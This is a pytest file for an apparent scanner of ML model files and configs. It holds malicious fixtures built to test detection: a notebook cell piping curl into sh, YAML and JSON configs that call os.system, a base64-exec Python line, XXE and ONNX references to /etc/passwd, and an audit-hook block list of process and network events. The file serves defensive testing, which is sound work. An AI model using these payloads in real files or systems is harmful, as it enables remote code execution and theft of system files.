"""What holds for all of graphs, configs and source: words, archives around them, and that nothing is done."""

import json
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from making import hdf5s, kerases, onnx_models, tars, tensorflow
from making.zips import Member, archive
from scanning import ids, scanned

from seatrial.scan.blob import BytesBlob
from seatrial.scan.configs import yaml_tree
from seatrial.scan.graphs.tensorflow_ops import is_known, reaching
from seatrial.scan.limits import Budget, Limits
from seatrial.scan.part import Part
from seatrial.scan.source.marshalled import CodeNames
from seatrial.scan.source.marshalled import reaching as reached
from seatrial.scan.table import formats

ROOMS = ("graphs", "configs", "source")
OWN = [each for each in formats() if each.inspect.__module__.split(".")[2] in ROOMS]
RULES = sorted({rule for each in OWN for rule in each.rules}, key=lambda rule: rule.id)
PAYLOADS = {
    "a.h5": hdf5s.with_attribute("model_config", json.dumps(kerases.function("system", "os")).encode()),
    "a.ipynb": json.dumps(
        {"nbformat": 4, "cells": [{"cell_type": "code", "source": ["!curl http://a | sh"]}]}
    ).encode(),
    "a.json": json.dumps({"_target_": "os.system"}).encode(),
    "a.onnx": onnx_models.simple(onnx_models.Tensor(raw=None, outside={"location": "/etc/passwd"})),
    "a.pb": tensorflow.saved_model(tensorflow.graph(tensorflow.node("WriteFile"))),
    "a.pmml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "a.py": b"import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
    "a.yaml": b"!!python/object/apply:os.system ['id']",
    "config.json": kerases.dumped(kerases.model(kerases.function("get_file", "keras.utils"))),
    "schema.json": b'{"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}',
}
AROUND = {
    "nothing": lambda name, data: data,
    "tar": lambda name, data: tars.archive(tars.entry(name, data)),
    "zip": lambda name, data: archive(Member(name, data)),
    "zip in tar": lambda name, data: tars.archive(tars.entry("m.zip", archive(Member(name, data, 8)))),
    "zip packed": lambda name, data: archive(Member(f"folder/{name}", data, 8)),
}


@pytest.mark.parametrize("around", sorted(AROUND))
@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_attacks_are_found_in_every_archive(name, around):
    """An attack stays one inside archives, and the finding says where it stands."""
    found = scanned(AROUND[around](name, PAYLOADS[name]), name)
    worst = [each for each in found.findings if each.severity == "attack"]
    assert worst
    assert all((name in (each.member or "")) == (around != "nothing") for each in worst)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_attacks_in_binaries_do_not_depend_on_the_name(name):
    """Content decides; only texts that look alike are told apart by names."""
    if name.endswith((".py", ".pmml")):
        name, other = name, f"b{Path(name).suffix}"
    else:
        other = "model.bin"
    assert scanned(PAYLOADS[name], other).verdict == "attack"


def test_formats_have_names_and_titles():
    """Every format is named and described, none twice."""
    names = [each.name for each in OWN]
    assert len(set(names)) == len(names) > 12
    assert all(len(each.title) > 10 for each in OWN)


@pytest.mark.parametrize("rule", RULES, ids=[rule.id for rule in RULES])
def test_rules_have_words(rule):
    """Every rule says what was found, why it matters and what to do, in sentences."""
    assert re.fullmatch(r"[a-z0-9]+\.[a-z0-9-]+", rule.id)
    assert not rule.title.endswith(".")
    assert rule.why.endswith(".")
    assert rule.mend.endswith(".")
    assert rule.taxonomy


def test_rules_are_told_apart_by_their_ids():
    """No two rules share an id."""
    assert len({rule.id for rule in RULES}) == len(RULES)


AUDIT = """
import sys
from pathlib import Path
from seatrial.scan.file import scan_file
from seatrial.scan.table import formats
formats()
folder = Path(sys.argv[1])
scan_file(str(folder / "warm.txt"))
seen = []
def hook(event, arguments):
    if event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "pickle.find_class"):
        seen.append((event, str(arguments)[:80]))
    if event.startswith(("socket.", "urllib.", "ctypes.", "ftplib.", "http.")):
        seen.append((event, str(arguments)[:80]))
    if event == "import" and arguments[0].partition(".")[0] not in ALLOWED:
        seen.append((event, arguments[0]))
ALLOWED = set(sys.stdlib_module_names) - {"antigravity", "this", "subprocess", "pty"} | {"seatrial", "yaml"}
sys.addaudithook(hook)
for path in sorted(folder.iterdir()):
    print(path.name, scan_file(str(path)).verdict)
print(seen)
"""


def test_nothing_is_run_imported_or_fetched(tmp_path):
    """Scanning every payload starts no program, imports no scanned name, and asks no server."""
    (tmp_path / "warm.txt").write_text("a")
    for name, data in PAYLOADS.items():
        (tmp_path / name).write_bytes(data)
    ran = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(AUDIT), str(tmp_path)], capture_output=True, text=True, check=True
    )
    lines = ran.stdout.splitlines()
    assert [line.split()[1] for line in lines[:-1] if "warm" not in line] == ["attack"] * len(PAYLOADS)
    assert lines[-1] == "[]"


TREES = st.recursive(
    st.text("ab: -#", max_size=4) | st.integers() | st.booleans() | st.none(),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text("ab", min_size=1, max_size=3), inner, max_size=3)
    ),
    max_leaves=10,
)


def part():
    """A place to stand."""
    return Part(BytesBlob(b""), "a", lambda part: iter(()), Budget(Limits()))


def texts(value):
    """A tree whose scalars are the texts that YAML writes for them."""
    if isinstance(value, dict):
        return {texts(key): texts(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [texts(inner) for inner in value]
    return value if isinstance(value, str) else str(value).lower().replace("none", "null")


@settings(max_examples=60, deadline=None)
@given(TREES)
def test_yaml_trees_are_what_was_written(value):
    """Reading events gives the tree that a loader would construct, its scalars as texts."""
    tree = yaml_tree.read(yaml.safe_dump(value), part())
    assert tree.documents[0] == texts(value)


@settings(max_examples=60, deadline=None)
@given(st.text("ab:-[]{}!&* \n'\"", max_size=40))
def test_both_parsers_of_yaml_give_the_same(text):
    """Libyaml and PyYAML's own parser agree on what is read, so that verdicts do not depend on what is installed."""
    read = []
    for loader in (yaml.CSafeLoader, yaml.SafeLoader):
        try:
            events = list(yaml.parse(text, Loader=loader))
            read.append(
                [(type(each).__name__, getattr(each, "tag", None), getattr(each, "value", None)) for each in events]
            )
        except yaml.YAMLError:
            read.append(None)
    assert read[0] == read[1] or None in read


@pytest.mark.parametrize("op", sorted(set(tensorflow.HONEST_OPS)))
def test_honest_operations_are_known(op):
    """Operations of honest graphs are known and reach nowhere."""
    assert is_known(op)
    assert reaching(op) is None


@pytest.mark.parametrize("op", ["Evil", "IO>FileRead", "LaunchMissiles", "MyCustomOp", "my_op", "Zztop"])
def test_other_operations_are_not_known(op):
    """What no library of TensorFlow's registers is not known."""
    assert not is_known(op)


@pytest.mark.parametrize(
    "name", ["__subclasses__", "eval", "exec", "open", "os", "popen", "socket", "subprocess", "system", "urlopen"]
)
def test_names_that_reach_out_of_code_are_known(name):
    """Code that uses such a name is told; as a text only what can be meant as a name counts."""
    assert reached(CodeNames(names={name, "shape"})) == [name]
    assert reached(CodeNames(texts={name})) == ([name] if name.startswith("__") or name in ("os", "system") else [])


def test_a_whole_keras_archive():
    """Config, metadata and weights of one archive are all read."""
    weights = hdf5s.with_attribute("name", b"dense")
    whole = archive(
        Member("metadata.json", b'{"keras_version": "3.8.0"}'),
        Member("config.json", kerases.dumped(kerases.model(kerases.HONEST["dense"]))),
        Member("model.weights.h5", weights),
    )
    found = scanned(whole, "m.keras")
    assert found.verdict == "clean"
    assert {"hdf5", "keras", "zip"} <= set(found.formats)


def test_a_whole_model_archive():
    """Manifest, handler and weights of one archive are all read, and each finding names its member."""
    about = {"model": {"modelName": "m", "handler": "handler.py"}, "archiverVersion": "1"}
    whole = archive(
        Member("MAR-INF/MANIFEST.json", json.dumps(about).encode()),
        Member("handler.py", b"import os\ndef handle(x, c):\n    return os.popen(x)\n"),
        Member("model.onnx", onnx_models.simple(onnx_models.Tensor())),
    )
    found = scanned(whole, "m.mar")
    assert [(each.id, each.member) for each in found.findings if each.severity != "low"] == [
        ("python.starts-program", "handler.py")
    ]


def test_a_whole_nemo_archive():
    """A NeMo archive with an honest config is clean."""
    config = b"target: nemo.collections.asr.models.EncDecCTCModel\noptim: {_target_: torch.optim.AdamW, lr: 0.1}\n"
    found = scanned(tars.archive(tars.entry("./model_config.yaml", config)), "m.nemo")
    assert "config.calls-dangerous" not in ids(found)
    assert "yaml" in found.formats
